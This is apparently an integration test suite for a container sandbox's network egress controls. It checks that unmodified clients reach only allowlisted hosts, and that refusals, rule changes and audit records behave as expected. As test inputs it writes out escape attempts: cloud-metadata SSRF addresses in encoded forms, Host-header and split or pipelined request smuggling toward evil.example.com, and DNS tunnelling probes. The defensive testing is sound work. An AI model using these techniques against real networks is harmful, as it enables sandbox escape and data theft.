//! Unmodified programs reach what they may, by name, and nothing else: on an internet of the test's own, with the
//! system's own resolver.

use std::{fs, thread, time::Duration};

use caisson_tests::{Home, Internet, internet::CLIENTS, programs};
use serde_json::{Value, json};

on_engines!([podman docker] the_internet);

fn the_internet(home: &Home) {
    let internet = Internet::around(home);
    install(home);
    unmodified_clients(home);
    other_hosts_and_addresses(home, &internet);
    other_names_by_an_allowed_address(home, &internet);
    no_tunnel_by_dns(home);
    decided_while_it_runs(home);
    learnt_in_a_trial(home);
    counted_and_recorded(home);
}

fn install(home: &Home) {
    let folder = home.path().join("commands");
    fs::create_dir(&folder).unwrap();
    fs::copy(programs::repository().join("tests/internet/run.py"), folder.join("run.py")).unwrap();
    let dockerfile =
        format!("FROM {CLIENTS}\nCOPY run.py /run.py\nENTRYPOINT [\"/usr/bin/python3\", \"/run.py\"]\n");
    fs::write(folder.join("Dockerfile"), dockerfile).unwrap();
    let folder = folder.display().to_string();
    let mut args = vec!["install", &folder, "--name", "run", "--yes", "--memory", "1GiB"];
    for host in [
        "web.example.com:443",
        "web.example.com:80",
        "*.git.example.com",
        "db.corp.example.com:5432",
        "10.9.0.0/16:5432",
        "rebind.example.com:80",
        "loop.example.com:80",
    ] {
        args.extend(["--host", host]);
    }
    home.caisson(&args).ok();
}

/// Runs a command inside, with the proxy named in its environment or not. Gives its code and what it printed.
fn run(home: &Home, proxy: bool, argv: &[&str]) -> (i64, String) {
    let ran = home.call("run", "run", &json!({"argv": argv, "proxy": proxy}))["structuredContent"].clone();
    let said =
        format!("{}{}", ran["out"].as_str().unwrap_or_default(), ran["err"].as_str().unwrap_or_default());
    (ran["code"].as_i64().unwrap_or_else(|| panic!("{ran}")), said)
}

fn unmodified_clients(home: &Home) {
    const URL: &str = "https://web.example.com/hello";
    let node = format!("fetch('{URL}').then(r => r.text()).then(t => process.stdout.write(t))");
    let requests = format!("import requests; print(requests.get('{URL}').text)");
    let httpx = format!("import httpx; print(httpx.get('{URL}').text)");
    let clone = "rm -rf repo && git clone -q https://repo.git.example.com/repo.git repo && cat repo/note";
    let java = ["/opt/java/bin/java", "-Xshare:auto", "-cp", "/opt/classes", "Fetch", URL];
    let sql = "host=db.corp.example.com user=postgres dbname=postgres connect_timeout=10";
    let by_address = "host=10-9-8-7.caisson.internal user=postgres dbname=postgres connect_timeout=10";
    for proxy in [true, false] {
        for (argv, printed) in [
            (&["curl", "-sS", URL][..], "hello from the web"),
            (&["curl", "-sS", "http://web.example.com/hello"], "hello from the web"),
            (&["node", "-e", &node], "hello from the web"),
            (&["python3", "-c", &requests], "hello from the web"),
            (&["python3", "-c", &httpx], "hello from the web"),
            (&["sh", "-c", clone], "from a repository"),
            (&["go-fetch", URL], "hello from the web"),
            (&java, "hello from the web"),
            (&["psql", "-At", "-c", "SELECT 6 * 7", sql], "42"),
            (&["psql", "-At", "-c", "SELECT 6 * 7", by_address], "42"),
        ] {
            let (code, said) = run(home, proxy, argv);
            assert!(code == 0 && said.contains(printed), "{argv:?}, proxy {proxy}: {code} {said}");
        }
    }
}

fn other_hosts_and_addresses(home: &Home, internet: &Internet) {
    for url in [
        "https://evil.example.com/",
        "https://web.example.com.evil.example.com/",
        "https://git.example.com/",
        "http://web.example.com:22/",
        "http://203.0.113.20/",
        "https://203.0.113.10/",
        "http://169.254.169.254/",
        "http://[::ffff:169.254.169.254]/",
        "http://0xa9fea9fe/",
        "http://2852039166/",
        "http://10.9.8.7/",
        // Names that may be reached, and lead where nobody may.
        "http://rebind.example.com/",
        "http://loop.example.com/",
    ] {
        for proxy in [true, false] {
            let (code, said) = run(home, proxy, &["curl", "-sSf", "-k", "--max-time", "10", url]);
            assert_ne!(code, 0, "{url}, proxy {proxy}: {said}");
        }
    }
    let heard = internet.heard();
    assert!(!heard.contains("A CONNECTION") && !heard.contains("203.0.113.20"), "{heard}");
}

/// Many names share an address: a connection to one of them may not ask for another.
fn other_names_by_an_allowed_address(home: &Home, internet: &Internet) {
    let name =
        ["--connect-to", "evil.example.com:443:web.example.com:443", "https://evil.example.com/stolen"];
    let proxied = ["-H", "Host: evil.example.com", "http://web.example.com/stolen"];
    let split = "import socket, time\n\
        s = socket.create_connection(('web.example.com', 80))\n\
        for part in ('GET /stolen HTTP/1.1\\r\\nHo', 'st: evil.example.com\\r\\n\\r\\n'):\n    s.sendall(part.encode()); time.sleep(0.1)\n\
        print(len(s.recv(1000)))";
    // The second request on one connection asks for another name.
    let second = "import socket\n\
        s = socket.create_connection(('web.example.com', 80))\n\
        s.sendall(b'GET /hello HTTP/1.1\\r\\nHost: web.example.com\\r\\n\\r\\nGET /stolen HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n')\n\
        s.settimeout(5)\nwhile s.recv(1000): pass";
    for proxy in [true, false] {
        let curl = ["curl", "-sSf", "-k", "--max-time", "10"];
        for args in [&name[..], &proxied] {
            let (code, said) = run(home, proxy, &[&curl, args].concat());
            assert_ne!(code, 0, "{args:?}, proxy {proxy}: {said}");
        }
    }
    let (code, said) = run(home, false, &["python3", "-c", split]);
    assert!(code != 0 || said.trim() == "0", "{said}");
    run(home, false, &["python3", "-c", second]);
    let heard = internet.heard();
    assert!(!heard.contains("stolen"), "{heard}");
}

fn no_tunnel_by_dns(home: &Home) {
    // A question put together by hand: any type, any name, by UDP and by TCP. Prints the code and the answers.
    let script = r#"
import socket, struct, sys
def ask(name, kind, tcp):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5); s.connect(('127.0.0.1', 53))
    s.sendall((struct.pack('>H', len(q)) if tcp else b'') + q)
    a = s.recv(4096)[2 if tcp else 0:]
    return a[3] & 15, struct.unpack('>H', a[6:8])[0]
for name in ('a' * 60 + '.' + 'b' * 60 + '.evil.example.com', 'evil.example.com', 'git.example.com'):
    for kind in (1, 28, 16, 10, 15, 5, 255):
        for tcp in (False, True):
            assert ask(name, kind, tcp) == (3, 0), (name, kind, tcp, ask(name, kind, tcp))
for kind in (28, 16, 10, 15, 5, 65):
    assert ask('web.example.com', kind, False) == (0, 0), kind
assert ask('WEB.example.com', 1, True) == (0, 1) and ask('any.git.example.com', 1, False) == (0, 1)
for server in ('203.0.113.10', '8.8.8.8'):
    try:
        socket.create_connection((server, 53), 3); sys.exit('reached ' + server)
    except OSError: pass
print('sound')
"#;
    let (code, said) = run(home, false, &["python3", "-c", script]);
    assert!(code == 0 && said.contains("sound"), "{said}");
}

fn fetches(home: &Home, host: &str) -> bool {
    let url = format!("https://{host}/hello");
    run(home, false, &["curl", "-sS", "--max-time", "10", &url]).1.contains("hello from the web")
}

fn network(home: &Home) -> Value {
    home.caisson(&["network", "show", "run", "--json"]).json()
}

/// What was refused is shown as it happens; one decision lets it through, without a restart.
fn decided_while_it_runs(home: &Home) {
    let [before] = &home.containers()[..] else { panic!("not one container") };
    let mut events =
        home.command(&["events", "--json"]).stdout(std::process::Stdio::piped()).spawn().unwrap();
    // Until it listens.
    thread::sleep(Duration::from_secs(1));
    assert!(!fetches(home, "late.example.com"));
    let seen = {
        use std::io::{BufRead as _, BufReader};
        let lines = BufReader::new(events.stdout.take().unwrap()).lines();
        lines
            .map(|line| serde_json::from_str::<Value>(&line.unwrap()).unwrap())
            .find(|event| event["event"] == "egress_refused" && event["host"] == "late.example.com")
            .unwrap()
    };
    drop((events.kill(), events.wait()));
    assert_eq!(
        (&seen["why"], &seen["rule"]),
        (&json!("not_allowed"), &json!("late.example.com:443")),
        "{seen}"
    );
    let tried = network(home)["tried"].clone();
    assert!(tried.as_array().unwrap().iter().any(|tried| tried["host"] == "late.example.com"), "{tried}");

    home.caisson(&["network", "allow", "run", "late.example.com", "--once"]).ok();
    assert!(fetches(home, "late.example.com"));
    assert_eq!(network(home)["once"], json!(["late.example.com:443"]));
    home.caisson(&["network", "block", "run", "late.example.com"]).ok();
    assert!(!fetches(home, "late.example.com"));
    home.caisson(&["network", "allow", "run", "late.example.com"]).ok();
    assert!(fetches(home, "late.example.com"));
    let file = home.path().join("config/servers/run.toml");
    assert!(fs::read_to_string(&file).unwrap().contains("late.example.com"));
    home.caisson(&["network", "forget", "run", "late.example.com"]).ok();
    assert!(!fetches(home, "late.example.com"));
    home.caisson(&["network", "forget", "run", "late.example.com"]).failed(3);
    assert_eq!(&home.containers(), std::slice::from_ref(before), "no restart was needed");
}

fn learnt_in_a_trial(home: &Home) {
    let fetch = json!({"argv": ["curl", "-sS", "https://other.example.com/hello"], "proxy": false});
    let secret = json!({"argv": ["psql", "-c", "SELECT 1", "host=secret.corp.example.com user=postgres"], "proxy": false});
    let call = |arguments: &Value| format!("run {arguments}");
    let (fetch, secret) = (call(&fetch), call(&secret));
    let shut = home.caisson(&["learn", "run", "--call", &fetch, "--json"]).json();
    assert_eq!(shut["allow"], json!(["other.example.com:443"]), "{shut}");
    assert!(!fetches(home, "other.example.com"), "a proposal grants nothing");
    let open =
        home.caisson(&["learn", "run", "--open", "--call", &fetch, "--call", &secret, "--json"]).json();
    // By name the database would be reached by the rule for its network.
    assert_eq!(open["allow"], json!(["other.example.com:443", "secret.corp.example.com:5432"]), "{open}");
    assert!(!fetches(home, "other.example.com"), "the trial is over");
    home.caisson(&["learn", "run", "--open", "--call", &fetch, "--yes"]).ok();
    assert!(fetches(home, "other.example.com"));

    // Not in /tmp, which every container has one of its own of.
    let notes = tempfile::Builder::new().prefix("caisson-notes").tempdir_in("/srv").unwrap();
    let notes = notes.path();
    fs::write(notes.join("a.txt"), "a note").unwrap();
    let read = call(&json!({"argv": ["cat", notes.join("a.txt").display().to_string()]}));
    // What a command prints is a result like any other; an error of the server's own is what tells.
    let learnt = home.caisson(&["learn", "run", "--call", &read, "--json"]).json();
    assert_eq!(learnt["folders"], json!([]), "{learnt}");
    let stderr = call(
        &json!({"argv": ["sh", "-c", format!("echo cat: {}: No such file or directory >/proc/$PPID/fd/2", notes.join("a.txt").display())]}),
    );
    let learnt = home.caisson(&["learn", "run", "--call", &stderr, "--json"]).json();
    assert_eq!(learnt["folders"], json!([{"folder": notes, "write": false}]), "{learnt}");
}

fn counted_and_recorded(home: &Home) {
    let reached = network(home)["reached"].clone();
    let web =
        reached.as_array().unwrap().iter().find(|it| it["host"] == "web.example.com" && it["port"] == 443);
    let web = web.unwrap_or_else(|| panic!("{reached}"));
    assert!(web["sent"].as_u64() > Some(1000) && web["received"].as_u64() > Some(1000), "{web}");
    let said = home.caisson(&["audit", "run", "-n", "10000", "--json"]).ok();
    let entries: Vec<Value> = said.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let has = |what: &str, host: &str, why: Option<&str>| {
        let is = |entry: &&Value| {
            entry["what"] == what && entry["host"] == host && why.is_none_or(|why| entry["why"] == why)
        };
        assert!(entries.iter().any(|entry| is(&entry)), "{what} {host} {why:?}\n{said}");
    };
    has("connected", "web.example.com", None);
    has("closed", "db.corp.example.com", None);
    has("connected", "10.9.8.7", None);
    has("refused", "evil.example.com", Some("not_allowed"));
    has("refused", "rebind.example.com", Some("closed"));
    has("refused", "loop.example.com", Some("closed"));
    has("refused", "web.example.com", Some("mismatch"));
    has("refused", "late.example.com", Some("blocked"));
    assert!(
        entries.iter().any(|entry| entry["what"] == "rules" && entry["change"] == "allowed once"),
        "{said}"
    );
    home.caisson(&["audit", "verify"]).ok();
}
